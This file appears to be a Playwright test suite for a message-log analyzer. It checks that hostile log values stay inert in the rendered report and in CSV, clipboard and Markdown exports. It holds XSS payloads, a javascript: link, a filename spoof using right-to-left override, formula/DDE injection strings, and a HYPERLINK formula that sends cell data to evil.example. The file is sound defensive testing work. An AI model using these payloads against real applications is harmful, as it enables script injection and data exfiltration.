import { expect, test } from '@playwright/test';
import { AnalyzePage } from './analyze-page.ts';
import { consoleLog } from './log-file.ts';

const HTML = '<img src=x onerror=alert(1)><script>alert(2)</script>';
const LINK = 'javascript:alert(3)';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")';
const TURNED = '\u202Egnp.exe\u2066';

/** Every cell that the report could show holds something that must stay text. */
const hostileLog = (): string =>
  consoleLog([
    ...[HTML, LINK, FORMULA, TURNED, '+1+cmd|calc!A0', '@SUM(A1)'].flatMap((evil) =>
      Array.from({ length: 4 }, (_, i) => ({
        from: evil,
        to: evil,
        body: evil,
        status: 'undelivered',
        code: '30006',
        at: `2025-08-1${String(i)}T10:00:00+00:00`,
      })),
    ),
    ...['<b>status</b>', LINK].map((status) => ({ status })),
    ...[HTML, LINK, '=1+1'].map((code) => ({ status: 'failed', code })),
    ...Array.from({ length: 12 }, () => ({ from: HTML, body: `${HTML} ${LINK}`, status: 'undelivered', code: '30007' })),
  ]);

test.beforeEach(async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const analyze = new AnalyzePage(page);
  await analyze.open();
});

test('a log full of HTML, script and links stays text', async ({ page }) => {
  const analyze = new AnalyzePage(page);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const hrefs = (): Promise<readonly string[]> =>
    page.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
  await analyze.choose({ name: `${HTML.replaceAll('/', '')}.csv`, text: hostileLog() });
  await analyze.isIn('report');
  await page.getByLabel('Show numbers in full').check();
  await page.evaluate(() => {
    for (const details of document.querySelectorAll('details')) details.open = true;
  });
  await expect(analyze.report).toContainText('<img src=x');
  expect(await page.locator('.analyzer img, .analyzer script, .analyzer b').count()).toBe(0);
  for (const href of await hrefs()) expect(href).toMatch(/^(\/|#|https:\/\/www\.twilio\.com\/docs\/api\/errors\/\d+$)/);
  expect(dialogs).toEqual([]);
});

test('what turns the direction of writing is not shown', async ({ page }) => {
  const analyze = new AnalyzePage(page);
  await analyze.choose({ name: 'a.csv', text: hostileLog() });
  await analyze.isIn('report');
  await page.getByLabel('Show numbers in full').check();
  await expect(analyze.report).toContainText('gnp.exe');
  expect(await page.locator('.analyzer').textContent()).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
});

test('no list that is saved or copied starts a formula', async ({ page }) => {
  const analyze = new AnalyzePage(page);
  await analyze.choose({ name: 'a.csv', text: hostileLog() });
  await analyze.isIn('report');
  // The end of the report, which is drawn last.
  await expect(analyze.report.getByRole('button', { name: 'Save JSON' })).toBeVisible();
  await page.evaluate(() => {
    for (const details of document.querySelectorAll('details')) details.open = true;
  });
  const saves = analyze.report.getByRole('button', { name: /^Save whole numbers.*CSV/ });
  // A list is made when its details open, a moment later.
  await expect(saves.first()).toBeVisible();
  for (const save of await saves.all()) {
    const { text } = await analyze.saved(save);
    expect(text.split('\r\n').length).toBeGreaterThan(2);
    // A number is not quoted and stays importable; a text that could be a formula begins with an apostrophe.
    expect(text).not.toMatch(/(?:^|,)(?:"[=+\-@\t]|[=@\t]|[+-](?!\d{7,15}[,\r]))/m);
  }
  for (const copy of await analyze.report.getByRole('button', { name: 'Copy whole numbers' }).all()) {
    await copy.click();
    await expect(copy).toContainText('Copied');
    const lines = (await page.evaluate(() => navigator.clipboard.readText())).split('\n');
    for (const line of lines) expect(line).toMatch(/^(\+\d{7,15}$|[^=+\-@\t]|$)/);
  }
});

test('Markdown for pasting holds no markup of the log and no whole number', async ({ page }) => {
  const analyze = new AnalyzePage(page);
  await analyze.choose({ name: 'a.csv', text: hostileLog() });
  await analyze.isIn('report');
  const { text } = await analyze.saved(page.getByRole('button', { name: 'Save Markdown' }));
  expect(text).not.toMatch(/<[a-z]/i);
  expect(text).not.toMatch(/\+\d{10}/);
  expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
});
